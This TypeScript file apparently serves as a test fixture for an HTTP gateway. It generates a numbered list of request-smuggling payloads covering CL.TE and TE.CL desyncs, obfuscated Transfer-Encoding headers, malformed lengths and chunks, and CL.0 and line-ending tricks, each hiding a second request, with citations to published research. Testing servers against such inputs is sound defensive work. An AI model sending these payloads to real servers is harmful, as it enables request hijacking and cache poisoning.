/**
 * Requests known from the literature on request smuggling (Linhart et al. 2005; Kettle, "HTTP Desync Attacks" 2019 and
 * "Browser-Powered Desync Attacks" 2022; Jabiyev et al., "T-Reqs" 2021; RFC 9112, section 11.2): two servers may disagree
 * on where they end. Each of them hides a request to `/v1/smug-000`, where 000 is its number.
 */
const SMUGGLED = '/v1/smug-NUM'

const HIDDEN = `POST ${SMUGGLED} HTTP/1.1\r\nHost: gateway\r\nContent-Length: 4\r\n\r\nevil`
const CHUNKED_HIDDEN = `0\r\n\r\n${HIDDEN}`
const LINE = 'POST /v1/attack-NUM HTTP/1.1\r\nHost: gateway\r\n'

const withLength = (length: number | string, header: string, body: string) =>
  `${LINE}Content-Length: ${length}\r\n${header}\r\n\r\n${body}`

/** Spellings of `Transfer-Encoding: chunked` that one server takes for it and another one does not. */
const CODINGS = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: Chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
  'Transfer-Encoding: chunked\r\nTransfer-encoding: identity',
  'X: x\r\n Transfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'X: x\r\n\tTransfer-Encoding: chunked',
  'Transfer-Encoding\r\n: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: ch\x00unked',
  '\x00Transfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding\x00: chunked',
  'Transfer-Encoding: \xffchunked',
  'Content-Encoding: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
]

/** Lengths that servers read as different numbers. */
const LENGTHS = [
  '0\r\nContent-Length: LEN',
  'LEN\r\nContent-Length: 0',
  '+LEN',
  '-0',
  '0, LEN',
  'LEN, 0',
  'LEN,LEN',
  '0xff',
  'LEN ',
  '0LEN',
  'LEN\x0b',
  '0\x0bLEN',
  '0 LEN',
  'LEN\x00',
  '1e2',
  '',
  '\x0bLEN',
  '18446744073709551616',
  '4294967296',
]
const LENGTH_NAMES = [
  'Content-Length ',
  'Content-Length\t',
  'Content_Length',
  '\tContent-Length',
  'Content-Length\x00',
  'Content\x0bLength',
]

/** Chunks that servers end at different places; the request has no length. */
const CHUNKS = [
  `0\n\n${HIDDEN}`,
  `0\r\n\r${HIDDEN}`,
  `0;\r\n\r\n${HIDDEN}`,
  `0;x=\n\r\n\r\n${HIDDEN}`,
  `5;\n\r\nabcde\r\n0\r\n\r\n${HIDDEN}`,
  `0x0\r\n\r\n${HIDDEN}`,
  `+0\r\n\r\n${HIDDEN}`,
  ` 0\r\n\r\n${HIDDEN}`,
  `0 \r\n\r\n${HIDDEN}`,
  `00000000000000000000\r\n\r\n${HIDDEN}`,
  `10000000000000000\r\n\r\n${HIDDEN}`,
  `5\r\nabcdeX\r\n0\r\n\r\n${HIDDEN}`,
  `5\r\nabcde0\r\n\r\n${HIDDEN}`,
  `0\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  `0\r\nX: y\r\n z\r\n\r\n${HIDDEN}`,
]

const LINES = [
  'POST /v1/attack-NUM HTTP/1.0',
  'POST /v1/attack-NUM HTTP/1.1 ',
  'POST  /v1/attack-NUM HTTP/1.1',
  'POST /v1/attack-NUM  HTTP/1.1',
  'POST\t/v1/attack-NUM\tHTTP/1.1',
  'POST /v1/attack-NUM HTTP/1.9',
  'POST /v1/attack-NUM HTTP/2.0',
  'POST /v1/attack-NUM',
  'POST http://other/v1/attack-NUM HTTP/1.1',
  'POST /v1/attack-NUM#x HTTP/1.1',
  'POST /v1/att\x00ack-NUM HTTP/1.1',
  'GET /v1/attack-NUM HTTP/1.1',
  'HEAD /v1/attack-NUM HTTP/1.1',
]

const REQUESTS: readonly string[] = [
  // CL.TE and TE.CL: the length counts the hidden request, or ends before it.
  ...CODINGS.flatMap(coding => [
    withLength(CHUNKED_HIDDEN.length, coding, CHUNKED_HIDDEN),
    withLength(3, coding, `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`),
    withLength(4, coding, `0\r\n\r\n${HIDDEN}`),
  ]),
  ...CODINGS.map(coding => `${LINE}${coding}\r\n\r\n${CHUNKED_HIDDEN}`),
  ...LENGTHS.map(length => withLength(length.replaceAll('LEN', String(HIDDEN.length)), 'X: y', HIDDEN)),
  ...LENGTH_NAMES.flatMap(name => [
    `${LINE}${name}: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
    withLength(0, `${name}: ${HIDDEN.length}`, HIDDEN),
  ]),
  ...CHUNKS.map(chunks => `${LINE}Transfer-Encoding: chunked\r\n\r\n${chunks}`),
  ...LINES.map(line => `${line}\r\nHost: gateway\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`),
  // CL.0: a server that ignores the body of a method.
  ...['GET', 'HEAD', 'DELETE', 'OPTIONS', 'TRACE'].map(
    method =>
      `${method} /v1/attack-NUM HTTP/1.1\r\nHost: gateway\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  ),
  // A body that is left over by an early response.
  withLength(HIDDEN.length, 'Expect: 100-continue', HIDDEN),
  withLength(HIDDEN.length, 'Expect: y\r\nExpect: 100-continue', HIDDEN),
  withLength(HIDDEN.length, 'Connection: Content-Length', HIDDEN),
  withLength(HIDDEN.length, 'Connection: close, Content-Length', HIDDEN),
  withLength(
    HIDDEN.length,
    'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA',
    HIDDEN,
  ),
  // Line ends.
  `${LINE.replaceAll('\r\n', '\n')}Content-Length: ${HIDDEN.length}\n\n${HIDDEN}`,
  `${LINE}Content-Length: 0\r\n\n${HIDDEN}`,
  `${LINE}Content-Length: ${HIDDEN.length}\r\r\n\r\n${HIDDEN}`,
  `${LINE}X: y\n\n${HIDDEN}`,
  `\r\n${LINE}Content-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  `${LINE}Host: other\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
]

export const SMUGGLING: readonly string[] = REQUESTS.map((bytes, i) =>
  bytes.replaceAll('NUM', String(i).padStart(3, '0')),
)
